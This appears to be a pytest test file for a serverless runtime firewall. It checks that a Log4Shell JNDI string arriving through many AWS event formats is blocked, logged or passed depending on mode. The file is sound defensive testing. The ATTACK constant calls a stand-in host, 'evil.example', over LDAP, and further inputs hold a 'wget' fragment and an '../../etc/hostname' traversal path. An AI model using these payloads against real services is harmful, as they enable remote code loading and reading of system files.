"""An attack in an event, before the handler: what the caller gets, and that the handler never ran."""

import base64
import json

import pytest
from protected import oldest_and_newest, policy

pytestmark = oldest_and_newest
ATTACK = "${jndi:ldap://evil.example/a}"  # in no harmless event
CODE = """
import os

def handler(event, context):
    open(os.path.join(os.environ["WORLD"], "ran"), "a").close()
    return os.getpid()
"""
PLAIN = "blue shoes"


def base64_of(text):
    return base64.b64encode(text.encode()).decode()


def http_api(text):
    return {
        "version": "2.0",
        "routeKey": "GET /orders",
        "rawPath": "/orders",
        "queryStringParameters": {"q": text},
        "headers": {"host": "shop.example"},
        "requestContext": {"http": {"method": "GET", "sourceIp": "192.0.2.1"}, "stage": "$default"},
        "isBase64Encoded": False,
    }


def function_url(text):
    context = {"http": {"method": "POST"}, "domainName": "abc.lambda-url.us-east-1.on.aws"}
    body = base64_of(json.dumps({"q": text}))
    return {"version": "2.0", "requestContext": context, "body": body, "isBase64Encoded": True}


def rest_api(text):
    return {
        "resource": "/orders/{id}",
        "httpMethod": "GET",
        "pathParameters": {"id": text},
        "requestContext": {"identity": {"sourceIp": "192.0.2.1"}, "resourceId": "abc"},
        "body": None,
    }


def web_socket(text):
    context = {"connectionId": "abc=", "eventType": "MESSAGE", "routeKey": "$default"}
    return {"requestContext": context, "body": text, "isBase64Encoded": False}


def load_balancer(text):
    return {
        "requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:x"}},
        "httpMethod": "POST",
        "path": "/orders",
        "headers": {"user-agent": text, "x-forwarded-for": "192.0.2.1"},
        "body": "",
    }


def load_balancer_with_lists(text):
    lists = {"user-agent": [text], "x-forwarded-for": ["192.0.2.1"]}
    event = load_balancer("")
    return {**event, "headers": None, "multiValueHeaders": lists}


def cloudfront(text):
    request = {"uri": "/", "method": "GET", "querystring": "", "clientIp": "192.0.2.1"}
    headers = {"user-agent": [{"key": "User-Agent", "value": text}]}
    return {"Records": [{"cf": {"config": {}, "request": {**request, "headers": headers}}}]}


def authorizer(text):
    return {"type": "REQUEST", "methodArn": "arn:aws:execute-api:x", "headers": {"token": text}}


def app_sync(text):
    info = {"fieldName": "getItem", "parentTypeName": "Query", "variables": {}}
    return {"arguments": {"title": text}, "info": info}


def cognito(text):
    request = {"userAttributes": {"name": text}}
    return {"triggerSource": "PreSignUp_SignUp", "userPoolId": "x", "request": request}


def lex(text):
    return {"sessionState": {}, "interpretations": [], "inputTranscript": text}


def alexa(text):
    slots = {"Dish": {"name": "Dish", "value": text}}
    return {"context": {"System": {}}, "request": {"intent": {"name": "Find", "slots": slots}}}


def sqs(text):
    record = {"eventSource": "aws:sqs", "messageId": "1", "body": json.dumps({"q": text})}
    return {"Records": [record]}


def sns(text):
    return {"Records": [{"EventSource": "aws:sns", "Sns": {"Message": text}}]}


def s3(text):
    return {
        "Records": [
            {"eventSource": "aws:s3", "s3": {"object": {"key": text}, "bucket": {"name": "b"}}}
        ]
    }


def kinesis(text):
    return {"Records": [{"eventSource": "aws:kinesis", "kinesis": {"data": base64_of(text)}}]}


def event_bridge(text):
    return {"source": "shop", "detail-type": "Order", "detail": {"note": text}}


def direct(text):
    return {"a": {"list": [1, None, text]}}


def just_text(text):
    return text


FORBIDDEN = {
    "statusCode": 403,
    "headers": {"content-type": "application/json"},
    "body": '{"message":"Forbidden"}',
    "isBase64Encoded": False,
}
BY_BALANCER = {**FORBIDDEN, "statusDescription": "403 Forbidden"}
TO_BALANCER_WITH_LISTS = {
    **{key: value for key, value in BY_BALANCER.items() if key != "headers"},
    "multiValueHeaders": {"content-type": ["application/json"]},
}
TO_CLOUDFRONT = {
    "status": "403",
    "statusDescription": "Forbidden",
    "headers": {"content-type": [{"key": "Content-Type", "value": "application/json"}]},
    "body": '{"message":"Forbidden"}',
    "bodyEncoding": "text",
}
EVENTS = [
    # event         path of the attack              answer; None is an error
    (http_api, "queryStringParameters.q", FORBIDDEN),
    (function_url, "body→base64→$.q", FORBIDDEN),
    (rest_api, "pathParameters.id", FORBIDDEN),
    (web_socket, "body", FORBIDDEN),
    (load_balancer, "headers.user-agent", BY_BALANCER),
    (load_balancer_with_lists, "multiValueHeaders.user-agent[0]", TO_BALANCER_WITH_LISTS),
    (cloudfront, "Records[0].cf.request.headers.user-agent[0].value", TO_CLOUDFRONT),
    (authorizer, "headers.token", None),
    (app_sync, "arguments.title", None),
    (cognito, "request.userAttributes.name", None),
    (lex, "inputTranscript", None),
    (alexa, "request.intent.slots.Dish.value", None),
    (sqs, "Records[0].body→$.q", None),
    (sns, "Records[0].Sns.Message", None),
    (s3, "Records[0].s3.object.key", None),
    (kinesis, "Records[0].kinesis.data→base64", None),
    (event_bridge, "detail.note", None),
    (direct, "a.list[2]", None),
    (just_text, "$", None),
]
SHAPES = pytest.mark.parametrize(
    ("event", "path", "answer"), EVENTS, ids=lambda one: getattr(one, "__name__", None)
)


@pytest.fixture(scope="module")
def preventing(start):
    return start(CODE, {"HAUBERK_MODE": "prevent"})


@pytest.fixture(scope="module")
def detecting(start):
    return start(CODE, {"HAUBERK_MODE": "detect"})


@SHAPES
def test_a_blocked_event_gets_the_answer_its_trigger_expects(preventing, event, path, answer):
    process = preventing.invoke(event(PLAIN)).value
    (preventing.outside / "ran").unlink()
    seen = preventing.invoke(event(ATTACK))
    if answer is None:
        assert seen.error == "Blocked"
        assert seen.message.startswith("blocked by Hauberk: log4shell")
    else:
        assert seen.value == answer
    assert not (preventing.outside / "ran").exists()
    (record,) = seen.detections
    assert (record["detector"], record["verdict"], record["level"]) == (
        "log4shell",
        "block",
        "FATAL",
    )
    assert record["input"]["path"] == path
    again = preventing.invoke(event(PLAIN))
    assert (again.value, again.answer.init_ms) == (process, None)
    assert not again.records


@SHAPES
def test_in_detect_the_same_event_is_reported_and_handled(detecting, event, path, answer):
    seen = detecting.invoke(event(ATTACK))
    assert (detecting.outside / "ran").exists()
    assert isinstance(seen.value, int)
    (record,) = seen.detections
    assert (record["detector"], record["verdict"], record["level"]) == (
        "log4shell",
        "alert",
        "ERROR",
    )
    assert record["input"]["path"] == path


@SHAPES
def test_where_the_firewall_is_off_nothing_is_said(start, event, path, answer, without_firewall):
    seen = without_firewall.invoke(event(ATTACK))
    assert isinstance(seen.value, int)
    assert not seen.detections


@pytest.fixture(scope="module")
def without_firewall(start):
    return start(CODE, {"HAUBERK_POLICY": policy(protections={"firewall": "off"})})


SOURCES = [
    # event          answer
    (http_api, FORBIDDEN),
    (rest_api, FORBIDDEN),
    (load_balancer, BY_BALANCER),
]


@pytest.mark.parametrize(
    ("event", "answer"), SOURCES, ids=lambda one: getattr(one, "__name__", None)
)
def test_a_malicious_source_is_refused_and_an_excepted_one_is_not(start, event, answer):
    listed = policy(document={"sources": {"deny": ["192.0.2.0/24"]}})
    excepted = policy(document={"sources": {"deny": ["192.0.2.0/24"], "allow": ["192.0.2.1"]}})
    seen = start(CODE, {"HAUBERK_POLICY": listed}).invoke(event(PLAIN))
    assert seen.value == answer
    assert [one["detector"] for one in seen.detections] == ["malicious-source"]
    assert isinstance(start(CODE, {"HAUBERK_POLICY": excepted}).invoke(event(PLAIN)).value, int)


def test_what_is_seen_with_little_confidence_is_reported_and_handled_even_in_prevent(preventing):
    seen = preventing.invoke({"note": "hello to all of you; wget -q x"})
    assert isinstance(seen.value, int)
    (record,) = seen.detections
    assert record["verdict"] == "alert"
    assert record["confidence"] < 90


def test_an_excluded_input_is_let_through(start):
    exclusion = {
        "name": "log-search",
        "detector": "log4shell",
        "path": "queryStringParameters.q",
        "patterns": ["**"],
        "scope": "account",
    }
    running = start(CODE, {"HAUBERK_POLICY": policy(document={"exclusions": [exclusion]})})
    assert isinstance(running.invoke(http_api(ATTACK)).value, int)
    assert running.invoke(rest_api(ATTACK)).value == FORBIDDEN


def test_a_blocked_event_leaves_nothing_for_the_next_one_to_be_blamed_for(start):
    """Inputs are those of the invocation: what an earlier one brought is no attack of this one."""
    code = """
def handler(event, context):
    open(event["folder"] + "/../../etc/hostname").close()
"""
    policy_value = policy(protections={"firewall": "off"})
    running = start(code, {"HAUBERK_POLICY": policy_value})
    assert running.invoke({"folder": "/tmp", "x": "../../etc/hostname"}).error == "PermissionError"
    assert running.invoke({"folder": "/tmp"}).answer.error is None


@pytest.mark.parametrize("text", ["1+1=2", "1 + 1 is 2", "10-5=5"])
def test_a_sum_is_no_attack(preventing, text):
    assert preventing.invoke({"note": text}).answer.error is None
